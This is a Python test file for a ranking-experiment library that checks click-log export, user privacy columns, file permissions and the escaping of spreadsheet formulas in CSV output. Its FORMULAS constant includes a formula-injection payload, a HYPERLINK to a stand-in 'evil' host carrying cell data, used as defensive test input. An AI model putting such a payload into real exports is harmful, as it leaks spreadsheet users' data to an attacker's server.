"""The exported log agrees with the state of the experiment, to the last bit."""

import csv
import stat

import pytest

from ltr_duel.core import InputError
from ltr_duel.live import export_log
from ltr_duel.live.export import LeftOutWarning
from ltr_duel.logs import ClickLog, compare_log, decide
from tests.live.shop import NAMES, Clock, opened, settings
from tests.live.test_experiment import use


@pytest.mark.parametrize("users", [False, True])
@pytest.mark.parametrize(
    "policy, method, outcome, suffix",
    [
        ("rucb", "team_draft", "", "parquet"),
        ("interleaved_filter", "probabilistic", "marginal_bernoulli", "jsonl"),
        ("multi_self_sparring:size=3", "probabilistic", "", "csv"),
        ("rucb", "probabilistic", "", "ndjson"),
    ],
)
def test_compare_finds_in_the_log_what_the_state_says(tmp_path, users, policy, method, outcome, suffix):
    given = settings(policy=policy, method=method, outcome=outcome, horizon=500)
    clock = Clock()
    with opened(tmp_path, given, clock=clock) as experiment:
        for part in range(6):
            use(experiment, 50, part, users=users)
            clock.now += (70, 3, -2, 40, 90, 61)[part]
        experiment.expire()
        state = experiment.state()
    log = tmp_path / f"log.{suffix}"
    assert export_log(tmp_path / "shop.db", log) == state.compared > 0
    read = ClickLog(log, format="ubi" if suffix == "ndjson" else suffix)
    found = compare_log(read, rankers=NAMES, cluster="user" if users else "impression")
    assert found.impressions == state.compared and found.names == NAMES
    for (a, b), wins, losses, ties in zip(found.pairs, found.wins, found.losses, found.ties, strict=True):
        assert (state.wins[a, b], state.wins[b, a], state.ties[a, b]) == (wins, losses, ties)
    mine = {(one.first, one.second): one for one in state.decisions}
    theirs = decide(found, given.confidence, checks=False).pairs
    assert len(theirs) > 3
    for one in theirs:
        assert mine[one.first, one.second] == one
    assert (state.wins + state.wins.T + state.ties).sum() == 2 * found.counts.sum()


def test_a_page_waits_in_the_store_while_an_earlier_one_of_its_user_and_pair_is_open(tmp_path):
    lists = {"a": ["1", "2"], "b": ["2", "1"]}
    with opened(tmp_path, settings(rankers=("a", "b"), policy="random")) as experiment:
        first, second = (experiment.decide("q", lists, user="ann") for _ in range(2))
        other = experiment.decide("q", lists, user="bob")
        experiment.record(second.token, ["1"])
        experiment.record(other.token, ["1"])
        assert experiment.state().decisions[0].observations == 1  # bob's: ann's first page is open
        with pytest.warns(LeftOutWarning, match=r"pages left out because an earlier page .* is open \(1\): 2$"):
            assert export_log(tmp_path / "shop.db", tmp_path / "open.jsonl") == 1
        experiment.record(first.token, ["2"])
        assert export_log(tmp_path / "shop.db", tmp_path / "closed.jsonl") == 3
        state = experiment.state()
    rows = [row for batch in ClickLog(tmp_path / "closed.jsonl").batches() for row in batch.table.to_pylist()]
    assert [(row["impression"], row["user"]) for row in rows] == [("1", "ann"), ("2", "ann"), ("3", "bob")]
    assert {(row["policy"], row["propensity"]) for row in rows} == {("random", 1.0)}
    found = compare_log(ClickLog(tmp_path / "closed.jsonl"))
    (decision,), other = decide(found, 0.95, checks=False).pairs, state.decisions[0]
    assert found.sequences.mean[0] == other.mean == 0 and other.observations == 2 and decision.observations == 3


FORMULAS = ('=HYPERLINK("http://evil/?"&A1,"x")', "@SUM(1+1)", "-1", "+1", "\tx", "shoes")
BREAKS = ("shoes\r=HYPERLINK(1)", "hat\n@SUM(1+1)", "x\r\n-1", "y\r\r+1", "\r", "a\rb", "\uff1d1")


def exported(folder, queries=FORMULAS, **how):
    """Return the rows of the log of pages whose queries and user are formulas."""
    with opened(folder, settings(rankers=("a", "b"), policy="random")) as experiment:
        for query in queries:
            page = experiment.decide(query, {"a": ["=x", "y"], "b": ["y", "=x"]}, user="=1+1")
            experiment.record(page.token, [])
    export_log(folder / "shop.db", folder / "log.csv", **how)
    with (folder / "log.csv").open(newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


def test_no_cell_is_a_formula_for_a_spreadsheet(tmp_path):
    rows = exported(tmp_path, spreadsheet=True)
    assert len(rows) == 6 and rows[5]["query"] == "shoes" and rows[1]["query"] == "'@SUM(1+1)"
    assert not [cell for row in rows for cell in row.values() if cell[:1] in ("=", "+", "-", "@", "\t")]


def test_no_line_of_a_cell_is_a_formula_for_a_spreadsheet(tmp_path):
    rows = exported(tmp_path, BREAKS, spreadsheet=True)
    lines = [line for row in rows for cell in row.values() for line in cell.splitlines()]
    assert not [line for line in lines if line[:1] in tuple("=+-@\t\uff1d")]
    assert rows[5]["query"] == "a\rb"


@pytest.mark.parametrize("delimiter", [";", "\t", "|"])
def test_no_cell_is_a_formula_where_a_spreadsheet_splits_otherwise(tmp_path, delimiter):
    exported(tmp_path, (f"shoes{delimiter}=HYPERLINK(0)", f"hat{delimiter}@SUM(1+1)"), spreadsheet=True)
    with (tmp_path / "log.csv").open(newline="", encoding="utf-8") as file:
        cells = [cell for row in csv.reader(file, delimiter=delimiter) for cell in row]
    assert len(cells) > 4 and not [cell for cell in cells if cell[:1] in tuple("=+-@")]


def test_breaks_of_lines_in_a_query_damage_no_log(tmp_path):
    assert [row["query"] for row in exported(tmp_path, BREAKS)] == list(BREAKS)
    log = ClickLog(tmp_path / "log.csv")
    assert [query for batch in log.batches() for query in batch.table["query"].to_pylist()] == list(BREAKS)


def test_a_log_for_programs_holds_what_was_asked(tmp_path):
    assert exported(tmp_path)[1]["query"] == "@SUM(1+1)"


def test_what_is_exported_is_for_its_owner_alone_as_the_store_is(tmp_path):
    files = [tmp_path / name for name in ("shop.db", "log.parquet", "events.csv")]
    with opened(tmp_path, settings(rankers=("a", "b"), policy="random")) as experiment:
        experiment.record(experiment.decide("q", {"a": ["x", "y"], "b": ["y", "x"]}, user="ann").token, ["x"])
    files[1].write_text("of before, for all")
    files[1].chmod(0o644)
    assert export_log(files[0], files[1], events=files[2]) == 1
    assert [stat.S_IMODE(file.stat().st_mode) for file in files] == [0o600] * 3


def test_queries_and_users_stay_in_the_house(tmp_path):
    (row, *_) = exported(tmp_path, without=("query", "user"))
    assert not {"query", "user"} & set(row) and "shown" in row
    with pytest.raises(InputError, match="no column to leave out 'shown'"):
        exported(tmp_path, without=("shown",))
